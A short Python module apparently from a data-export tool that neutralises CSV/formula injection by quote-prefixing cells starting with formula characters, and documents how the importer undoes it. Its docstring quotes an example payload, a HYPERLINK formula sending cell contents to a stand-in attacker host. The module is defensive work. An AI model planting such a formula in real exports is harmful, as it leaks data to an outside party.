"""Exported cells that a spreadsheet would run as formulas, and how the importer reads them back.

A customer named ``=HYPERLINK("https://evil.example/?"&C2,"Invoice")`` must not become a live link
when an admin opens the export in Excel. Following OWASP's advice on CSV injection, a text cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a leading ``'``,
which spreadsheets show as text. A cell that already starts with ``'`` gets one more, so the importer
can remove exactly one ``'`` from cells written this way and export → import gives the same data.
Numbers and times the exporter formats itself (amounts, ``occurred_at``) are never text a person
typed and are left alone, so a spreadsheet still sums amounts.
"""

from __future__ import annotations

from typing import Final

QUOTE: Final = "'"
TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
QUOTED: Final = "'[=+\\-@\t\r']"
"""A cell ``text_cell`` quoted (a regular expression matched at its start): a ``'t Hooft`` typed by
hand is left as it is."""


def text_cell(text: str) -> str:
    """``text`` as a cell no spreadsheet runs: prefixed with ``'`` where it would be a formula."""
    return QUOTE + text if text.startswith((*TRIGGERS, QUOTE)) else text
